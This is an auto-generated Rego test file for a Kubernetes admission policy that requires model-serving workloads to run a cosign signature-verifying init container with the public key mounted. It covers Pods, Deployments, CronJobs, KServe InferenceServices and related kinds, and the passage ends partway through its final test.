# Generated from tests/corpus by tests/policygen (aegis_gen_policy_tests). Do not edit:
# change the corpus and regenerate. One test per (object, constraint whose match selects it).
package aegissignedpod

import future.keywords.if
import future.keywords.in

corpus_ids(violations) := {[v.details.component, v.details.id] | some v in violations}

# defaults / defaults: InferenceService isvc-good
test_corpus_defaults_isvc_good if {
	vs := violation with input as {"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"namespace":"models","object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"isvc-good","namespace":"models"},"spec":{"predictor":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key"}]}],"model":{"modelFormat":{"name":"triton"}},"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: InferenceService isvc-transformer
test_corpus_defaults_isvc_transformer if {
	vs := violation with input as {"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"namespace":"models","object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"transformer:AEGIS001 transformer:AEGIS002"},"name":"isvc-transformer","namespace":"models"},"spec":{"predictor":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]},"transformer":{"containers":[{"image":"transformer","name":"kserve-container"}]}}}}}
	corpus_ids(vs) == {["transformer", "AEGIS001"], ["transformer", "AEGIS002"]}
}

# defaults / defaults: InferenceService isvc-explainer
test_corpus_defaults_isvc_explainer if {
	vs := violation with input as {"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"namespace":"models","object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS001 predictor:AEGIS002 explainer:AEGIS003"},"name":"isvc-explainer","namespace":"models"},"spec":{"explainer":{"initContainers":[{"name":"verify"}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]},"predictor":{"storageUri":"s3://models/resnet"}}}}}
	corpus_ids(vs) == {["explainer", "AEGIS003"], ["predictor", "AEGIS001"], ["predictor", "AEGIS002"]}
}

# defaults / defaults: InferenceService isvc-legacy-group
test_corpus_defaults_isvc_legacy_group if {
	vs := violation with input as {"review":{"kind":{"group":"serving.kubeflow.org","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kubeflow.org/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS001 predictor:AEGIS002","aegis.dev/render-error":"cannot remove storageUri safely"},"name":"isvc-legacy-group"},"spec":{"predictor":{"tensorflow":{"storageUri":"gs://bucket/model"}}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS001"], ["predictor", "AEGIS002"]}
}

# defaults / defaults: InferenceService isvc-no-predictor
test_corpus_defaults_isvc_no_predictor if {
	vs := violation with input as {"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS001","aegis.dev/render-error":"no pod spec at spec.predictor"},"name":"isvc-no-predictor"},"spec":{}}}}
	corpus_ids(vs) == {["predictor", "AEGIS001"]}
}

# defaults / defaults: Deployment from-json
test_corpus_defaults_from_json if {
	vs := violation with input as {"review":{"kind":{"group":"apps","kind":"Deployment","version":"v1"},"namespace":"models","object":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"from-json","namespace":"models"},"spec":{"template":{"spec":{"containers":[{"image":"triton","name":"s"}]}}}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# defaults / defaults: Pod pod-good
test_corpus_defaults_pod_good if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"pod-good","namespace":"models"},"spec":{"containers":[{"image":"triton","name":"server"}],"initContainers":[{"image":"verifier","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"cosign-key","readOnly":true}]}],"volumes":[{"name":"cosign-key","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: Pod pod-bare
test_corpus_defaults_pod_bare if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"pod-bare","namespace":"models"},"spec":{"containers":[{"image":"triton","name":"server"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# defaults / defaults: PodTemplate podtemplate-bad
test_corpus_defaults_podtemplate_bad if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"PodTemplate","version":"v1"},"object":{"apiVersion":"v1","kind":"PodTemplate","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"podtemplate-bad"},"template":{"spec":{"containers":[{"image":"s","name":"s"}],"initContainers":[{"image":"v","name":"verify"}]}}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# defaults / defaults: ReplicationController rc-bad
test_corpus_defaults_rc_bad if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"ReplicationController","version":"v1"},"object":{"apiVersion":"v1","kind":"ReplicationController","metadata":{"annotations":{"aegis.dev/expect":"AEGIS003"},"name":"rc-bad"},"spec":{"template":{"spec":{"containers":[{"image":"s","name":"s"}],"initContainers":[{"image":"v","name":"verify-and-fetch"}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}}}
	corpus_ids(vs) == {["", "AEGIS003"]}
}

# defaults / defaults: Deployment deploy-good
test_corpus_defaults_deploy_good if {
	vs := violation with input as {"review":{"kind":{"group":"apps","kind":"Deployment","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"annotations":{"aegis.dev/expect":""},"name":"deploy-good"},"spec":{"template":{"spec":{"containers":[{"name":"s"}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: StatefulSet sts-bad
test_corpus_defaults_sts_bad if {
	vs := violation with input as {"review":{"kind":{"group":"apps","kind":"StatefulSet","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"StatefulSet","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"sts-bad"},"spec":{"template":{"spec":{"containers":[{"name":"s"}]}}}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# defaults / defaults: DaemonSet ds-bad
test_corpus_defaults_ds_bad if {
	vs := violation with input as {"review":{"kind":{"group":"apps","kind":"DaemonSet","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001"},"name":"ds-bad"},"spec":{"template":{"spec":{"containers":[{"name":"s"}],"initContainers":[{"name":"fetch-model"}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}}}
	corpus_ids(vs) == {["", "AEGIS001"]}
}

# defaults / defaults: ReplicaSet rs-good
test_corpus_defaults_rs_good if {
	vs := violation with input as {"review":{"kind":{"group":"apps","kind":"ReplicaSet","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"ReplicaSet","metadata":{"annotations":{"aegis.dev/expect":""},"name":"rs-good"},"spec":{"template":{"spec":{"containers":[{"name":"s"}],"initContainers":[{"name":"model-verify-step","volumeMounts":[{"mountPath":"/etc/cosign","name":"key"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: Job job-bad
test_corpus_defaults_job_bad if {
	vs := violation with input as {"review":{"kind":{"group":"batch","kind":"Job","version":"v1"},"object":{"apiVersion":"batch/v1","kind":"Job","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"job-bad"},"spec":{"template":{"spec":{"containers":[{"name":"s"}],"restartPolicy":"Never"}}}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# defaults / defaults: CronJob cronjob-good
test_corpus_defaults_cronjob_good if {
	vs := violation with input as {"review":{"kind":{"group":"batch","kind":"CronJob","version":"v1"},"object":{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"annotations":{"aegis.dev/expect":""},"name":"cronjob-good"},"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"s"}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}},"schedule":"0 * * * *"}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: CronJob cronjob-bad
test_corpus_defaults_cronjob_bad if {
	vs := violation with input as {"review":{"kind":{"group":"batch","kind":"CronJob","version":"v1"},"object":{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"cronjob-bad"},"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"s"}]}}}},"schedule":"0 * * * *"}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# defaults / defaults: Rollout rollout-bad
test_corpus_defaults_rollout_bad if {
	vs := violation with input as {"review":{"kind":{"group":"argoproj.io","kind":"Rollout","version":"v1alpha1"},"object":{"apiVersion":"argoproj.io/v1alpha1","kind":"Rollout","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"rollout-bad"},"spec":{"template":{"spec":{"containers":[{"name":"s"}]}}}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# defaults / defaults: Rollout rollout-workloadref
test_corpus_defaults_rollout_workloadref if {
	vs := violation with input as {"review":{"kind":{"group":"argoproj.io","kind":"Rollout","version":"v1alpha1"},"object":{"apiVersion":"argoproj.io/v1alpha1","kind":"Rollout","metadata":{"annotations":{"aegis.dev/expect":"","aegis.dev/expect-status":"not-checked"},"name":"rollout-workloadref"},"spec":{"workloadRef":{"apiVersion":"apps/v1","kind":"Deployment","name":"deploy-good"}}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: Service knative-bad
test_corpus_defaults_knative_bad if {
	vs := violation with input as {"review":{"kind":{"group":"serving.knative.dev","kind":"Service","version":"v1"},"object":{"apiVersion":"serving.knative.dev/v1","kind":"Service","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"knative-bad"},"spec":{"template":{"spec":{"containers":[{"image":"s"}],"initContainers":[{"name":"verify"}]}}}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# defaults / defaults: Service core-service-not-checked
test_corpus_defaults_core_service_not_checked if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Service","version":"v1"},"object":{"apiVersion":"v1","kind":"Service","metadata":{"annotations":{"aegis.dev/expect":"","aegis.dev/expect-status":"not-checked"},"name":"core-service-not-checked"},"spec":{"ports":[{"port":80}]}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: ConfigMap configmap-not-checked
test_corpus_defaults_configmap_not_checked if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"ConfigMap","version":"v1"},"object":{"apiVersion":"v1","data":{"a":"b"},"kind":"ConfigMap","metadata":{"annotations":{"aegis.dev/expect":"","aegis.dev/expect-status":"not-checked"},"name":"configmap-not-checked"}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: Deployment other-group-not-checked
test_corpus_defaults_other_group_not_checked if {
	vs := violation with input as {"review":{"kind":{"group":"extensions","kind":"Deployment","version":"v1beta1"},"object":{"apiVersion":"extensions/v1beta1","kind":"Deployment","metadata":{"annotations":{"aegis.dev/expect":"","aegis.dev/expect-status":"not-checked"},"name":"other-group-not-checked"},"spec":{}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: Pod keyless-not-allowed
test_corpus_defaults_keyless_not_allowed if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"keyless-not-allowed"},"spec":{"initContainers":[{"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/etc/sigstore/trusted_root.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY","value":"someone@example.com"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER","value":"https://accounts.google.com"}],"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/sigstore","name":"trusted-root"}]}],"volumes":[{"configMap":{"name":"sigstore-trusted-root"},"name":"trusted-root"}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# defaults / defaults: Pod projected-secret
test_corpus_defaults_projected_secret if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"projected-secret"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"trust"}]}],"volumes":[{"name":"trust","projected":{"sources":[{"configMap":{"name":"ca"}},{"secret":{"name":"cosign-public-key"}}]}}]}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: Pod projected-other-secret
test_corpus_defaults_projected_other_secret if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"projected-other-secret"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"trust"}]}],"volumes":[{"name":"trust","projected":{"sources":[{"secret":{"name":"something-else"}}]}}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# defaults / defaults: Pod mounts-wrong-volume
test_corpus_defaults_mounts_wrong_volume if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS003"},"name":"mounts-wrong-volume"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/models","name":"model"}]},{"name":"unrelated","volumeMounts":[{"mountPath":"/etc/cosign","name":"key"}]}],"volumes":[{"emptyDir":{},"name":"model"},{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS003"]}
}

# defaults / defaults: Pod key-in-main-container-only
test_corpus_defaults_key_in_main_container_only if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS003"},"name":"key-in-main-container-only"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/etc/cosign","name":"key"}]}],"initContainers":[{"name":"verify-and-fetch"}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS003"]}
}

# defaults / defaults: Pod second-verifier-mounts
test_corpus_defaults_second_verifier_mounts if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"second-verifier-mounts"},"spec":{"initContainers":[{"name":"verify-a"},{"name":"verify-b","volumeMounts":[{"mountPath":"/etc/cosign","name":"key"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: Deployment no-template
test_corpus_defaults_no_template if {
	vs := violation with input as {"review":{"kind":{"group":"apps","kind":"Deployment","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001","aegis.dev/render-error":"no pod spec at spec.template.spec"},"name":"no-template"},"spec":{"replicas":1}}}}
	corpus_ids(vs) == {["", "AEGIS001"]}
}

# defaults / defaults: Deployment null-spec
test_corpus_defaults_null_spec if {
	vs := violation with input as {"review":{"kind":{"group":"apps","kind":"Deployment","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001","aegis.dev/render-error":"no pod spec at spec.template.spec"},"name":"null-spec"},"spec":null}}}
	corpus_ids(vs) == {["", "AEGIS001"]}
}

# defaults / defaults: Pod scalar-spec
test_corpus_defaults_scalar_spec if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001","aegis.dev/render-error":"no pod spec at spec"},"name":"scalar-spec"},"spec":3}}}
	corpus_ids(vs) == {["", "AEGIS001"]}
}

# defaults / defaults: Pod init-containers-string
test_corpus_defaults_init_containers_string if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002","aegis.dev/render-error":"initContainers is not a list"},"name":"init-containers-string"},"spec":{"initContainers":"verify-and-fetch","volumes":3}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# defaults / defaults: Pod init-containers-mapping
test_corpus_defaults_init_containers_mapping if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002","aegis.dev/render-error":"initContainers is not a list"},"name":"init-containers-mapping"},"spec":{"initContainers":{"verify":{"name":"verify"}},"volumes":{"key":{"secret":{"secretName":"cosign-public-key"}}}}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# defaults / defaults: Pod init-name-not-string
test_corpus_defaults_init_name_not_string if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001"},"name":"init-name-not-string"},"spec":{"initContainers":[{"name":42},{"name":["verify"]},"verify"],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"]}
}

# defaults / defaults: Pod secret-name-wrong-type
test_corpus_defaults_secret_name_wrong_type if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"secret-name-wrong-type"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"key"}]}],"volumes":[{"name":"key","secret":{"secretName":["cosign-public-key"]}},7,null]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# defaults / defaults: Pod merge-key-template
test_corpus_defaults_merge_key_template if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"","aegis.dev/render-error":"has an anchor"},"name":"merge-key-template"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: Pod quoted-keys-and-values
test_corpus_defaults_quoted_keys_and_values if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"quoted-keys-and-values"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# defaults / defaults: Pod verifier-mounts-volume-without-name
test_corpus_defaults_verifier_mounts_volume_without_name if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS003","aegis.dev/render-error":"mount path /etc/cosign in the verify initContainer is taken"},"name":"verifier-mounts-volume-without-name"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign"}]}],"volumes":[{"secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS003"]}
}

# defaults / defaults: Pod in-a-list
test_corpus_defaults_in_a_list if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"in-a-list"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# defaults / defaults: Deployment also-in-a-list
test_corpus_defaults_also_in_a_list if {
	vs := violation with input as {"review":{"kind":{"group":"apps","kind":"Deployment","version":"v1"},"object":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"also-in-a-list"},"spec":{"template":{"spec":{"initContainers":[{"name":"verify"}]}}}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# enforcement / enforce: Pod conforming-to-enforce-only
test_corpus_enforcement_conforming_to_enforce_only_enforce if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"audit@AEGIS001 warn@AEGIS002"},"name":"conforming-to-enforce-only","namespace":"models"},"spec":{"initContainers":[{"name":"verify","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == set()
}

# enforcement / enforce: Pod bare-everywhere
test_corpus_enforcement_bare_everywhere_enforce if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"web","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"enforce@AEGIS001 enforce@AEGIS002 audit@AEGIS001 audit@AEGIS002"},"name":"bare-everywhere","namespace":"web"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# enforcement / enforce: Pod conforming-to-all
test_corpus_enforcement_conforming_to_all_enforce if {
	vs := violation with input as {"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"conforming-to-all","namespace":"models"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"},{"name":"o"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"name":"o","secret":{"secretName":"other-key"}}]}}}}
	corpus_ids(vs) == set()
}

# enforcement / audit: Pod conforming-to-enforce-only
test_corpus_enforcement_conforming_to_enforce_only_audit if {
	vs := violation with input as {"parameters":{"initContainerPattern":"^verify-and-fetch$"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"audit@AEGIS001 warn@AEGIS002"},"name":"conforming-to-enforce-only","namespace":"models"},"spec":{"initContainers":[{"name":"verify","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"]}
}

# enforcement / audit: Pod bare-everywhere
test_corpus_enforcement_bare_everywhere_audit if {
	vs := violation with input as {"parameters":{"initContainerPattern":"^verify-and-fetch$"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"web","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"enforce@AEGIS001 enforce@AEGIS002 audit@AEGIS001 audit@AEGIS002"},"name":"bare-everywhere","namespace":"web"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# enforcement / audit: Pod conforming-to-all
test_corpus_enforcement_conforming_to_all_audit if {
	vs := violation with input as {"parameters":{"initContainerPattern":"^verify-and-fetch$"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"conforming-to-all","namespace":"models"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"},{"name":"o"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"name":"o","secret":{"secretName":"other-key"}}]}}}}
	corpus_ids(vs) == set()
}

# enforcement / warn: Pod conforming-to-enforce-only
test_corpus_enforcement_conforming_to_enforce_only_warn if {
	vs := violation with input as {"parameters":{"secretName":"other-key"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"audit@AEGIS001 warn@AEGIS002"},"name":"conforming-to-enforce-only","namespace":"models"},"spec":{"initContainers":[{"name":"verify","volumeMounts":[{"name":"k"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# enforcement / warn: Pod conforming-to-all
test_corpus_enforcement_conforming_to_all_warn if {
	vs := violation with input as {"parameters":{"secretName":"other-key"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"conforming-to-all","namespace":"models"},"spec":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"},{"name":"o"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"name":"o","secret":{"secretName":"other-key"}}]}}}}
	corpus_ids(vs) == set()
}

# kinds-serving / kinds-serving: LLMInferenceService llm-verified
test_corpus_kinds_serving_llm_verified if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"LLMInferenceService","version":"v1alpha1"},"object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"LLMInferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"llm-verified"},"spec":{"model":{"name":"qwen","uri":"s3://models/qwen2.5-0.5b.tar.gz"},"storageInitializer":{"enabled":false},"template":{"containers":[{"image":"vllm/vllm-openai:v0.8.4","name":"main","volumeMounts":[{"mountPath":"/mnt/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/qwen2.5-0.5b.tar.gz","/mnt/models"],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"cosign-public-key","readOnly":true},{"mountPath":"/mnt/models","name":"model"}]}],"volumes":[{"name":"cosign-public-key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}}
	corpus_ids(vs) == set()
}

# kinds-serving / kinds-serving: LLMInferenceService llm-sample
test_corpus_kinds_serving_llm_sample if {
	vs := violation with input as {"parameters":{"allowVaultVerification":false,"initContainerPattern":"verify","requireDigest":false,"requireModelMount":true,"requireMount":true,"requireVerifiedModel":true,"secretName":"cosign-public-key","verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"LLMInferenceService","version":"v1alpha1"},"object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"LLMInferenceService","metadata":{"annotations":{"aegis.dev/expect":"template:AEGIS001 template:AEGIS005"},"name":"llm-sample"},"spec":{"model":{"name":"facebook/opt-125m","uri":"hf://facebook/opt-125m"},"replicas":1,"router":{"gateway":{},"route":{}}}}}}
	corpus_ids(vs) == {["template", "AEGIS001"], ["template", "AEGIS005"]}
}

# kinds-serving / kinds-serving: LLMInferenceService llm-prefill
test_corpus_kinds_serving_llm_prefill if {
